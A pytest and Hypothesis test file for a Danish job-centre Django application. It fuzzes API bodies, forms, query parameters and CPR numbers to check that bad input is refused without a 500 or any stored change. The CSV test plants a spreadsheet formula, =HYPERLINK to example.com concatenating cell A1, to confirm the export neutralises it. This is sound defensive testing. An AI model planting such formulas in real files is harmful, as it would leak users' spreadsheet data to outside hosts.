"""Bad input is refused with a message in the reader's language and changes nothing.

- The API's events endpoint, with Hypothesis: any JSON (wrong types, missing fields, unknown
  types, dates out of range, huge strings, nested junk) is stored whole (201) or refused (403 or
  422 in the error shapes of docs/api.md), and a refused batch stores nothing.
- Every operation of the OpenAPI schema that takes a body, discovered from the schema: each of
  its text and date fields given a NUL byte, a control character, a lone surrogate, 100,000
  characters, an impossible date, unicode digits, year 1 and year 9999. Never a 500 (PostgreSQL
  refuses NUL in text), and a refusal changes nothing.
- CPR numbers and dates fuzzed with Hypothesis on the registration (API and the staff's page)
  and the lookup by CPR.
- A body larger than Django takes: 413 with a page or JSON in the reader's language.
"""

from __future__ import annotations

import json
import re
from datetime import date, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from django.apps import apps
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kontaktforloeb.cases.models import CaseEvent, Citizen
from kontaktforloeb.rules.events import EventError, parse_events
from tests.integration.test_authorisation_matrix import SITE, fill
from tests.integration.test_cv_services import register
from tests.rules.strategies import event
from tests.rules.test_event_validation_properties import junk_event
from tests.support import factories

SETTINGS = settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
MISSING = 987_654_321
HUGE = "æ" * 100_000


def snapshot() -> dict[str, list[str]]:
    """Every row of the project's own tables: what a refused request must leave as it was. The
    access log is left out (a read before the refusal is logged, as every read is)."""
    return {
        model._meta.label: sorted(repr(row) for row in model.objects.values_list())
        for model in apps.get_models()
        if model.__module__.startswith("kontaktforloeb.") and model._meta.app_label != "audit"
    }


def changed(before: dict[str, list[str]]) -> list[str]:
    after = snapshot()
    return [label for label, rows in after.items() if rows != before.get(label)]


def api(key: str, language: str = "da") -> Client:
    return Client(headers={"X-API-Key": key, "Accept-Language": language})


def post_json(client: Client, method: str, path: str, body: Any) -> Any:
    return client.generic(method, path, json.dumps(body), "application/json")


def assert_validation_error(response: Any) -> list[dict[str, Any]]:
    assert response.status_code == 422, (response.status_code, response.content[:500])
    detail = response.json()["detail"]
    assert isinstance(detail, list) and detail
    for item in detail:
        assert {"loc", "msg", "type"} <= set(item) and item["loc"][0] in ("body", "query")
    return detail


# --- The events endpoint ---------------------------------------------------------------------

# What a municipality records as raw events (cases/owners.py), `moved` aside: it would move the
# citizen out of the municipality's sight.
MUNICIPAL = {
    "registered",
    "group_changed",
    "sick",
    "job_start_documented",
    "deregistered",
    "reregistered",
    "akasse_participation",
    "interview_held",
    "interview_missed",
}
municipal_event = (
    event()
    .filter(lambda raw: raw["type"] in MUNICIPAL)
    .map(lambda raw: {**raw, "holder": "jobcenter"} if "holder" in raw else raw)
)


@pytest.fixture
def municipality_key(world) -> str:
    return factories.api_key(world.jc_kbh, "Københavns sagssystem")


@SETTINGS
@given(
    valid=st.lists(municipal_event, max_size=3),
    junk=st.lists(junk_event(), max_size=2),
    language=st.sampled_from(["da", "en"]),
)
def test_the_events_endpoint_stores_all_or_refuses_and_stores_nothing(
    world, municipality_key, valid, junk, language
):
    events = [*valid, *junk]
    url = f"/api/v1/citizens/{world.anna.pk}/events"
    before = snapshot()
    count = CaseEvent.objects.filter(citizen=world.anna).count()
    response = post_json(api(municipality_key, language), "POST", url, {"events": events})
    assert response.status_code in (201, 403, 422), (response.status_code, response.content[:500])
    if response.status_code == 201:
        stored = response.json()
        assert [(row["type"], row["date"]) for row in stored] == [
            (raw["type"], raw["date"]) for raw in events
        ]
        assert [row["data"] for row in stored] == [
            {k: v for k, v in raw.items() if k not in ("type", "date")} for raw in events
        ]
        assert CaseEvent.objects.filter(citizen=world.anna).count() == count + len(events)
        return
    assert changed(before) == []
    if response.status_code == 403:
        assert set(response.json()) == {"detail", "rule"}
        return
    detail = assert_validation_error(response)
    if detail[0]["type"] != "invalid_event":
        return  # refused by the body's schema or for a character no text holds, before the events
    with pytest.raises(EventError) as refused:
        parse_events(events)
    assert detail[0]["loc"] == ["body", "events", refused.value.index, refused.value.field]
    assert detail[0]["type"] == "invalid_event"


def test_a_refused_batch_stores_none_of_its_valid_events(world, municipality_key):
    url = f"/api/v1/citizens/{world.anna.pk}/events"
    good = {"type": "sick", "date": "2026-03-02", "from": "2026-03-02", "to": "2026-03-04"}
    bad = {**good, "to": "2026-02-31"}
    before = snapshot()
    response = post_json(api(municipality_key), "POST", url, {"events": [good, good, bad]})
    [item] = assert_validation_error(response)
    assert item["loc"] == ["body", "events", 2, "to"]
    assert changed(before) == []


# --- Every operation with a body, from the OpenAPI schema ------------------------------------

UNSTORABLE = ["Anna\x00", "bel\x07l", "\ud800"]
TEXTS = [*UNSTORABLE, HUGE]
DATES = ["2026-02-31", "٢٠٢٦-٠١-٠١", " 2026-01-05", "0001-01-01", "9999-12-31", "10000-01-01"]
FAR = {"0001-01-01", "9999-12-31"}  # real days, far off: refused or accepted, never a 500


def _schema() -> dict[str, Any]:
    from kontaktforloeb.api import api

    return api.get_openapi_schema()


SCHEMA = _schema()


def resolve(node: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in node:
        node = SCHEMA["components"]["schemas"][node["$ref"].rsplit("/", 1)[1]]
    return node


# Values that get a body past the checks of its service, where the field's name says what it is.
PLAUSIBLE: dict[str, Any] = {
    "cpr": "0202921234",
    "contact_email": "anna@example.dk",
    "email": "anna@example.dk",
    "contact_phone": "12345678",
    "mobile": "12345678",
    "municipality_code": 101,
    "approve": True,
}


def sample(node: dict[str, Any], name: str = "", hints: dict[str, Any] | None = None) -> Any:
    """A value of the schema's shape with every optional field present and arrays of objects
    holding one, so that every text and date field of the body is there to be replaced; a field
    named in `hints` or `PLAUSIBLE` gets that value."""
    node = resolve(node)
    hints = {**PLAUSIBLE, **(hints or {})}
    if name in hints:
        return hints[name]
    if "anyOf" in node:
        options = [option for option in node["anyOf"] if option.get("type") != "null"]
        return sample(options[0], name, hints)
    if "enum" in node:
        return node["enum"][0]
    if "const" in node:
        return node["const"]
    kind = node.get("type")
    if kind == "object":
        properties = node.get("properties", {})
        return {key: sample(sub, key, hints) for key, sub in properties.items()}
    if kind == "array":
        items = resolve(node.get("items", {}))
        if items.get("type") == "object" and "properties" in items:
            return [sample(items, "", hints)]
        return []
    if kind == "string":
        return {"date": date.today().isoformat(), "date-time": "2026-12-14T10:00:00+01:00"}.get(
            node.get("format", ""), "Tekst"
        )
    if kind == "integer":
        return max(int(node.get("minimum", 1)), 1)
    if kind == "number":
        return 1
    if kind == "boolean":
        return False
    return None


def leaves(node: dict[str, Any], loc: tuple[str | int, ...] = ()) -> list[tuple[tuple, str]]:
    """Where the sample has a free text or a date: (where, "text" or "date")."""
    node = resolve(node)
    if "anyOf" in node:
        options = [option for option in node["anyOf"] if option.get("type") != "null"]
        return leaves(options[0], loc)
    if "enum" in node or "const" in node:
        return []
    kind = node.get("type")
    if kind == "object":
        return [
            found
            for name, sub in node.get("properties", {}).items()
            for found in leaves(sub, (*loc, name))
        ]
    if kind == "array":
        items = resolve(node.get("items", {}))
        if items.get("type") == "object" and "properties" in items:
            return leaves(items, (*loc, 0))
        if items.get("type") == "string" and "enum" not in items:
            return [((*loc, 0), "text")]
        return []
    if kind == "string":
        return [(loc, "date" if node.get("format") == "date" else "text")]
    return []


def replaced(body: Any, loc: tuple, value: Any) -> Any:
    body = json.loads(json.dumps(body))
    target = body
    for step in loc[:-1]:
        target = target[step]
    if isinstance(target, list) and loc[-1] == len(target):
        target.append(value)
    else:
        target[loc[-1]] = value
    return body


def _body_operations() -> list[tuple[str, str, str, str]]:
    """(method, path, where, "text" or "date") for every text and date field of every body."""
    found = []
    for path, operations in SCHEMA["paths"].items():
        for method, operation in operations.items():
            content = operation.get("requestBody", {}).get("content", {})
            if "application/json" not in content:
                continue
            body = content["application/json"]["schema"]
            found += [(method.upper(), path, json.dumps(loc), kind) for loc, kind in leaves(body)]
    return sorted(found)


BODY_FIELDS = _body_operations()


def test_the_schema_offers_fields_to_try():
    """The discovery finds the texts and dates it should (a change of the schema's shape that
    hid them would make the sweep below vacuous)."""
    where = {(path, loc) for _, path, loc, _ in BODY_FIELDS}
    assert ("/api/v1/citizens", '["cpr"]') in where
    assert ("/api/v1/citizens/{citizen_id}/deadlines", '["deadline"]') in where
    assert ("/api/v1/cv/{citizen_id}", '["experience", 0, "description"]') in where
    assert ("/api/v1/joblog/{citizen_id}/entries", '["application_text"]') in where
    assert len(BODY_FIELDS) > 40


def _path(path: str, ids: dict[str, int]) -> str:
    return re.sub(r"\{(?:\w+:)?(\w+)\}", lambda match: str(ids.get(match.group(1), MISSING)), path)


@pytest.fixture
def callers(world, municipality_key) -> list[Client]:
    """The municipality's system, the a-kasse's (which decides on dagpenge, R25), and Anna
    herself (the CV and the joblog are hers to write)."""
    citizen = Client(headers={"Accept-Language": "en"})
    citizen.force_login(world.anna.user)
    return [api(municipality_key), api(factories.api_key(world.ak_one)), citizen]


@pytest.fixture
def ids(world) -> dict[str, int]:
    """What the paths' ids and the bodies' ids name: Anna, registered on dagpenge a month ago
    (her plan worked out), a joblog entry of hers, her a-kasse."""
    from kontaktforloeb.cases.plans import plan_current
    from kontaktforloeb.cases.services import case_events_append
    from kontaktforloeb.joblog.services import joblog_entry_add
    from kontaktforloeb.organisations.access import Actor

    registered = date.today() - timedelta(days=30)
    case_events_append(
        actor=Actor.of_operator("tests"),
        citizen=world.anna,
        events=[{"type": "registered", "date": registered.isoformat(), "group": "dagpenge"}],
    )
    plan_current(world.anna)
    entry = joblog_entry_add(
        actor=Actor.of_user(world.anna.user),
        citizen=world.anna,
        data={
            "applied_on": date.today().isoformat(),
            "employer": "Lager A/S",
            "title": "Lagermedarbejder",
            "source": "advertised",
            "hours": "full_time",
        },
    )
    return {"citizen_id": world.anna.pk, "entry_id": entry.pk, "akasse_id": world.ak_one.pk}


@pytest.mark.parametrize(("method", "path", "loc", "kind"), BODY_FIELDS)
def test_every_text_and_date_of_every_body_is_refused_or_stored_never_a_500(
    callers, ids, method, path, loc, kind
):
    operation = SCHEMA["paths"][path][method.lower()]
    body = sample(operation["requestBody"]["content"]["application/json"]["schema"], hints=ids)
    where = tuple(json.loads(loc))
    url = _path(path, ids)
    before = snapshot()
    for value in TEXTS if kind == "text" else DATES:
        # Refused whoever sends it, before the handler: one caller is enough.
        for client in callers[:1] if value in UNSTORABLE else callers:
            response = post_json(client, method, url, replaced(body, where, value))
            status = response.status_code
            assert status < 500, (method, url, where, value[:20], response.content[:300])
            if value in UNSTORABLE:
                [item] = assert_validation_error(response)
                assert item["loc"] == ["body", *where] and item["type"] == "string_unstorable"
                assert "NUL" in item["msg"]
            elif value not in FAR:
                assert status >= 400, (method, url, where, value[:20], status)
            after = snapshot()
            if status >= 400:
                assert after == before, (method, url, where, value[:20], status, changed(before))
            before = after


# --- Every form of every page, from the URL configuration ------------------------------------


class Forms(HTMLParser):
    """The POST forms of a page: their action and fields with the values the page gives them."""

    def __init__(self) -> None:
        super().__init__()
        self.forms: list[tuple[str, dict[str, str], list[tuple[str, str]]]] = []
        self.current: tuple[str, dict[str, str], list[tuple[str, str]]] | None = None
        self.select: str | None = None
        self.textarea: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attr = {key: value or "" for key, value in attrs}
        if tag == "form" and attr.get("method", "").lower() == "post":
            self.current = (attr.get("action", ""), {}, [])
            self.forms.append(self.current)
        if self.current is None or not attr.get("name"):
            return
        _, data, typed = self.current
        name, kind = attr["name"], attr.get("type", "text")
        if tag == "input" and kind in ("checkbox", "radio"):
            if "checked" in attr or name not in data:
                data[name] = attr.get("value", "on")
        elif tag == "input" and kind not in ("submit", "button", "file"):
            data[name] = attr.get("value", "")
            if kind in ("text", "email", "tel", "search", "date", "number", ""):
                typed.append((name, kind))
        elif tag == "textarea":
            self.textarea = name
            data[name] = ""
            typed.append((name, "textarea"))
        elif tag == "select":
            self.select = name
        elif tag == "option" and self.select and (self.select not in data or "selected" in attr):
            data[self.select] = attr.get("value", "")
        elif tag == "button" and kind == "submit":
            data.setdefault(name, attr.get("value", ""))

    def handle_data(self, text: str) -> None:
        if self.current is not None and self.textarea:
            self.current[1][self.textarea] += text

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self.current = None
        elif tag == "select":
            self.select = None
        elif tag == "textarea":
            self.textarea = None


DATE_LIKE = re.compile(r"^\d{2}-\d{2}-\d{4}$|^\d{4}-\d{2}-\d{2}$")
DATE_NAME = re.compile(r"date|day|deadline|_on$|(^|-)(start|end)$|^valid_")
FORM_TEXTS = ["Anna\x00", HUGE]
FORM_DATES = ["31-02-2026", "٠١-٠١-٢٠٢٦", "01-01-0001", "31-12-9999", "1-1-1"]
FORM_FAR = {"01-01-0001", "31-12-9999"}
# Forms that end the visit or only choose what a page shows.
NOT_INPUT = ("/log-ud/", "/i18n/", "/logout", "/demo/")


def _page_forms(client: Client, path: str) -> list[tuple[str, dict[str, str], list]]:
    response = client.get(path)
    if response.status_code != 200 or "html" not in response.get("Content-Type", ""):
        return []
    parser = Forms()
    parser.feed(response.content.decode())
    return [
        (action or path, data, typed)
        for action, data, typed in parser.forms
        if typed and not any(part in (action or path) for part in NOT_INPUT)
    ]


@pytest.mark.parametrize(("name", "route"), SITE)
def test_every_form_refuses_nul_huge_texts_and_impossible_dates(world, name, route):
    """Each text field of each form of the page, as Anna and as her caseworker: a NUL byte,
    100,000 characters and dates that are not days are refused (the form again, or a 4xx) and
    change nothing; far dates (year 1, year 9999) are refused or accepted, never a 500."""
    register(world.anna, "dagpenge")
    people = [world.anna.user, world.jc_kbh_worker]
    for user in people:
        client = Client(headers={"Accept-Language": "da"})
        client.force_login(user)
        path = fill(route, world.anna.pk)
        for action, data, typed in _page_forms(client, path):
            for field, kind in typed:
                dated = kind == "date" or bool(
                    DATE_LIKE.match(data[field]) or DATE_NAME.search(field)
                )
                for value in FORM_DATES if dated else FORM_TEXTS:
                    before = snapshot()
                    response = client.post(action, {**data, field: value})
                    status = response.status_code
                    where = (user.username, action, field, value[:12], status)
                    assert status < 500, where
                    if value not in FORM_FAR:
                        assert status not in (301, 302, 303), where
                        assert changed(before) == [], (*where, changed(before))


# --- The CV's job goals ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("goals", "danish", "english"),
    [
        (
            "\n".join(f"Job {n}" for n in range(21)),
            "Skriv højst 20 job, ét pr. linje.",
            "Write at most 20 jobs, one per line.",
        ),
        (
            "Lagermedarbejder " + "x" * 200,
            "Et job kan højst være 200 tegn. Skriv ét job pr. linje.",
            "A job can be at most 200 characters. Write one job per line.",
        ),
    ],
)
def test_too_many_or_too_long_job_goals_are_refused_at_the_field(world, goals, danish, english):
    """They were a 500 on the page (the CV's schema refused what the form let through) and cut
    to 200 characters without a word through the API."""
    from tests.integration.test_cv_pages import form_data

    register(world.anna, "dagpenge")
    clients = {language: Client(headers={"Accept-Language": language}) for language in ("da", "en")}
    for client in clients.values():
        client.force_login(world.anna.user)
    before = snapshot()
    for language, message in (("da", danish), ("en", english)):
        client = clients[language]
        response = client.post("/min-side/cv/", form_data(job_goals=goals))
        assert response.status_code == 200
        assert message in response.content.decode()
        lines = [line for line in goals.splitlines() if line]
        body = {"job_goals": lines}
        assert_validation_error(post_json(client, "PUT", f"/api/v1/cv/{world.anna.pk}", body))
    assert changed(before) == []


@pytest.mark.parametrize(
    ("body", "language", "message"),
    [
        (b"[" * 100_000 + b"]" * 100_000, "da", "Kroppen er ikke gyldig JSON"),
        (b'{"events": [{"type": "sick", "date": "\xff\xfe"}]}', "en", "The body is not valid JSON"),
    ],
)
def test_a_body_nested_too_deeply_or_not_utf8_is_refused_as_not_json(
    world, municipality_key, body, language, message
):
    before = snapshot()
    response = api(municipality_key, language).post(
        f"/api/v1/citizens/{world.anna.pk}/events", body, content_type="application/json"
    )
    [item] = assert_validation_error(response)
    assert item["loc"] == ["body"] and item["msg"].startswith(message)
    assert changed(before) == []


# --- CPR numbers and dates, fuzzed --------------------------------------------------------

OTHER_DIGITS = "٠١٢٣٤٥٦٧٨٩"  # Arabic-Indic: `\d` and str.isdigit take them
cpr_numbers = st.one_of(
    st.text(alphabet="0123456789- \t\n" + OTHER_DIGITS + "０１", max_size=14),
    st.builds(
        "{:02d}{:02d}{:02d}{}{:04d}".format,
        st.integers(0, 39),  # days and months beyond the calendar: 31-02, 00-13
        st.integers(0, 19),
        st.integers(0, 99),
        st.sampled_from(["", "-", " - ", "--"]),
        st.integers(0, 9999),
    ),
    st.sampled_from(["0101901234", "010190-1234", " 0101901234 "]).map(
        lambda cpr: cpr.translate(str.maketrans("0123456789", OTHER_DIGITS))
    ),
)


def cpr_refused(value: str) -> bool:
    from django.core.exceptions import ValidationError

    from kontaktforloeb.cases.cpr import normalise_cpr

    try:
        digits = normalise_cpr(value)
    except ValidationError:
        return True
    assert digits.isascii() and len(digits) == 10
    return False


CPR_MESSAGES = {
    "da": ("Et CPR-nummer består af 10 cifre", "De første 6 cifre i et CPR-nummer"),
    "en": ("A CPR number has 10 digits", "The first 6 digits of a CPR number"),
}


@SETTINGS
@given(cpr=cpr_numbers, language=st.sampled_from(["da", "en"]))
def test_a_cpr_number_is_registered_found_or_refused_in_the_readers_language(
    world, municipality_key, cpr, language
):
    client = api(municipality_key, language)
    before = snapshot()
    found = client.get("/api/v1/citizens", {"cpr": cpr})
    created = post_json(
        client,
        "POST",
        "/api/v1/citizens",
        {
            "cpr": cpr,
            "first_name": "Ny",
            "last_name": "Borger",
            "municipality_code": 101,
            "akasse_id": world.ak_one.pk,
            "email": "ny@example.dk",
        },
    )
    if cpr_refused(cpr):
        for response in (found, created):
            assert response.status_code == 422, (cpr, response.content)
            assert response.json()["detail"].startswith(CPR_MESSAGES[language]), cpr
        assert changed(before) == []
        return
    assert found.status_code == 200
    assert created.status_code in (201, 409), (cpr, created.content)
    if created.status_code == 201:
        citizen = Citizen.objects.get(pk=created.json()["id"])
        assert citizen.cpr.isascii() and citizen.cpr == "".join(filter(str.isdigit, cpr))


@SETTINGS
@given(
    cpr=cpr_numbers,
    first_day=st.one_of(
        st.dates().map(lambda day: day.strftime("%d-%m-%Y")),
        st.sampled_from(["31-02-2026", "29-02-2026", "00-01-2026", "٠١-١٢-٢٠٢٦", "1-1-1", ""]),
    ),
)
def test_the_walk_in_registration_refuses_bad_cpr_numbers_and_first_days_at_the_field(
    world, cpr, first_day
):
    client = Client(headers={"Accept-Language": "da"})
    client.force_login(world.jc_kbh_worker)
    before = snapshot()
    response = client.post(
        "/sager/registrer/",
        {
            "cpr": cpr,
            "first_name": "Ny",
            "last_name": "Borger",
            "group": "dagpenge",
            "akasse": world.ak_one.pk,
            "municipality": world.jc_kbh.pk,
            "first_day": first_day,
            "email": "ny@example.dk",
            "language": "da",
        },
    )
    assert response.status_code in (200, 302), (cpr, first_day, response.status_code)
    if response.status_code == 200:
        assert "<title>Fejl: " in response.content.decode()
        assert changed(before) == []
    if cpr_refused(cpr):
        assert response.status_code == 200
        assert "cpr" in response.context["form"].errors  # said at the field


# --- Bodies larger than Django takes ----------------------------------------------------------


@pytest.mark.parametrize(
    ("language", "message"),
    [("da", "Det, du sendte, er for stort"), ("en", "What you sent is too large")],
)
def test_a_form_larger_than_django_takes_is_413_with_a_page_in_the_readers_language(
    world, settings, language, message
):
    """Megabytes of text in a form (DATA_UPLOAD_MAX_MEMORY_SIZE): the page says so, not "bad
    request", and nothing is stored."""
    register(world.anna, "dagpenge")
    client = Client(headers={"Accept-Language": language})
    client.force_login(world.anna.user)
    before = snapshot()
    too_much = "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)
    response = client.post("/min-side/joblog/ny/", {"application_text": too_much})
    assert response.status_code == 413
    assert message in response.content.decode()
    fields = {f"field{n}": "1" for n in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1)}
    response = client.post("/min-side/joblog/ny/", fields)
    assert response.status_code == 413 and message in response.content.decode()
    assert changed(before) == []


@pytest.mark.parametrize(
    ("language", "message"),
    [("da", "Det, du sendte, er for stort"), ("en", "What you sent is too large")],
)
def test_an_api_body_larger_than_django_takes_is_413_with_json_in_the_readers_language(
    world, municipality_key, settings, language, message
):
    sick = {"type": "sick", "date": "2026-03-02", "from": "2026-03-02", "to": "2026-03-04"}
    body = {"events": [{**sick, "note": "x" * settings.DATA_UPLOAD_MAX_MEMORY_SIZE}]}
    before = snapshot()
    response = post_json(
        api(municipality_key, language), "POST", f"/api/v1/citizens/{world.anna.pk}/events", body
    )
    assert response.status_code == 413
    assert response.json()["detail"].startswith(message)
    assert changed(before) == []


# --- Every query parameter of every operation ---------------------------------------------


def _query_parameters() -> list[tuple[str, str, str]]:
    return sorted(
        (method.upper(), path, parameter["name"])
        for path, operations in SCHEMA["paths"].items()
        for method, operation in operations.items()
        for parameter in operation.get("parameters", [])
        if parameter["in"] == "query"
    )


QUERY = ["\x00", "x" * 10_000, "2026-02-31", "2026-13", "٢٠٢٦-٠١", "9999-12-31", "0000-01", "-1"]


@pytest.mark.parametrize(("method", "path", "name"), _query_parameters())
def test_every_query_parameter_takes_bad_values_without_a_500(
    world, municipality_key, method, path, name
):
    """As the municipality's system, a manager and Anna (the statistics are the managers')."""
    manager = Client(headers={"Accept-Language": "en"})
    manager.force_login(world.kbh_manager)
    citizen = Client()
    citizen.force_login(world.anna.user)
    from kontaktforloeb.cases.plans import plan_current

    plan_current(world.anna)  # the stored plan, which a read would otherwise work out first
    url = _path(path, {"citizen_id": world.anna.pk, "interview": 1})
    before = snapshot()
    for client in (api(municipality_key), manager, citizen):
        for value in QUERY:
            response = client.generic(method, url, QUERY_STRING=urlencode({name: value}))
            assert response.status_code < 500, (method, url, name, value[:12])
    assert changed(before) == []


# --- Every page's query parameters -----------------------------------------------------------


def _page_parameters() -> list[str]:
    """The names the pages read from the query string, as their code reads them."""
    source = Path(__file__).resolve().parents[2] / "src" / "kontaktforloeb"
    names = {
        name
        for module in source.rglob("*.py")
        for name in re.findall(r"""request\.GET\.get\(["'](\w+)["']""", module.read_text())
    }
    return sorted(names)


PAGE_PARAMETERS = _page_parameters()
PAGE_QUERY = ["\x00", "x" * 10_000, "9999-W52", "0000-W01", "0000-01", "٢٠٢٦-٠١", "-1", "9" * 30]


def test_the_pages_query_parameters_are_found():
    assert {"uge", "side", "maaned", "frist"} <= set(PAGE_PARAMETERS)


@pytest.mark.parametrize(("name", "route"), SITE)
def test_every_page_takes_bad_query_parameters_without_a_500(world, name, route):
    register(world.anna, "dagpenge")
    for user in (world.anna.user, world.jc_kbh_worker, world.kbh_manager):
        client = Client()
        client.force_login(user)
        for value in PAGE_QUERY:
            query = urlencode(dict.fromkeys(PAGE_PARAMETERS, value))
            response = client.get(fill(route, world.anna.pk), QUERY_STRING=query)
            assert response.status_code < 500, (user.username, name, value[:12])


# --- The CV as a PDF -------------------------------------------------------------------------


def test_the_cv_pdf_is_made_from_any_text_the_cv_takes(world):
    """The longest words and characters outside the PDF font's Latin-1 (emoji, right-to-left
    marks, other scripts) still give the citizen a PDF, never a 500."""
    register(world.anna, "dagpenge")
    client = Client()
    client.force_login(world.anna.user)
    odd = "Lagermedarbejder😀\u202eæøå" + "ж" * 20
    cv = {
        "contact_email": "anna@example.dk",
        "job_goals": ["x" * 200, odd],
        "competences": ("y" * 4000),
        "experience": [
            {"employer": "z" * 200, "title": odd, "start": "0001-01-01", "description": "w" * 2000}
        ],
        "education": [{"institution": odd, "title": "v" * 200, "end": "9999-12-31"}],
        "languages": [{"language": "ﺎﻠﻋﺮﺒﻳﺓ", "level": "native"}],
        "area": "u" * 200,
    }
    saved = post_json(client, "PUT", f"/api/v1/cv/{world.anna.pk}", cv)
    assert saved.status_code == 200, saved.content[:300]
    for language in ("da", "en"):
        reader = Client(headers={"Accept-Language": language})
        reader.force_login(world.anna.user)
        pdf = reader.get("/min-side/cv/cv.pdf")
        assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf"
        assert b"".join(pdf.streaming_content if pdf.streaming else [pdf.content])[:5] == b"%PDF-"


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity"])
def test_nan_and_infinity_which_json_does_not_have_are_refused_as_not_json(
    world, municipality_key, constant
):
    """Python's JSON reads them, PostgreSQL's JSON does not: refused at the body."""
    sick = '{"type": "sick", "date": "2026-03-02", "from": "2026-03-02", "to": "2026-03-04"'
    body = f'{{"events": [{sick}, "note": {constant}}}]}}'
    before = snapshot()
    response = api(municipality_key).post(
        f"/api/v1/citizens/{world.anna.pk}/events", body, content_type="application/json"
    )
    [item] = assert_validation_error(response)
    assert item["loc"] == ["body"] and item["type"] == "json_invalid"
    assert changed(before) == []


# --- The joblog's CSV -----------------------------------------------------------------------


def test_the_joblog_csv_holds_texts_never_formulas(world):
    """A text that a spreadsheet would run as a formula (=HYPERLINK(…), +, -, @) is exported with
    an apostrophe first; other texts as they were written."""
    import csv
    import io

    from kontaktforloeb.joblog.services import joblog_entry_add
    from kontaktforloeb.organisations.access import Actor

    register(world.anna, "dagpenge")
    formula = '=HYPERLINK("https://example.com/?"&A1;"Se mere")'
    joblog_entry_add(
        actor=Actor.of_user(world.anna.user),
        citizen=world.anna,
        data={
            "applied_on": date.today().isoformat(),
            "employer": formula,
            "title": "+45 Lager",
            "place": "@København",
            "application_text": "-1+1\nJeg søger",
            "source": "advertised",
            "hours": "full_time",
        },
    )
    client = Client()
    client.force_login(world.anna.user)
    raw = client.get("/min-side/joblog/joblog.csv").content.decode("utf-8-sig")
    [_, row] = list(csv.reader(io.StringIO(raw), delimiter=";"))
    assert row[1:3] == [f"'{formula}", "'+45 Lager"]
    assert row[5] == "'@København" and row[7] == "'-1+1\nJeg søger"
